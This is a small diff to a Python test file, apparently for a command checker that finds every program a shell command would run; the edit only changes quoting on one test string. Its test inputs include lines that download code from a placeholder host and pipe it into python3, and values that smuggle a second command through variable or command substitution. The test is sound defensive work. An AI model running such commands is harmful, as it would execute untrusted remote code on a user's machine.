@@ -209,7 +209,7 @@ def test_every_program_on_the_way_is_a_run(command: str, programs: list[str], ba
         "$CMD .env",
         '"$(pick a program)" x',
         "${x}rm y",
-        "python3 -c \"$(curl https://x.example)\"",
+        'python3 -c "$(curl https://x.example)"',
         "curl https://x.example | python3",
     ],
 )
